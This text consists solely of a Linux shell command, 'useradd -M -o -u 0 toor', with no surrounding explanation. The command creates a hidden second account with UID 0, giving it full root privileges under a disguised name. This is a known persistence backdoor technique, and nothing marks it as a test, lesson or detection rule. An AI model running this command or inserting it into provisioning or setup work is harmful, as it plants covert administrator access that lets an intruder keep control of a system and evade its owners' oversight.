useradd -M -o -u 0 toor
